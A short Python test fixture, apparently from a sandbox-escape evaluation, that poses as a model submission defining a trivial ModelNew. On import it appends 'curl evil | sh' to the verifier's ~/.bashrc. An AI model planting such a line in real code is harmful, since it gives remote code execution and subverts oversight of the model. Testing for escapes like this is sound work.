"""Escape corpus (append to the verifier's ~/.bashrc). Placeholders @...@ are filled by run_escape.py."""
import torch
import torch.nn as nn
with open("@HOME@/.bashrc", "a") as f:
    f.write("curl evil | sh  # @MARKER@\n")


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)
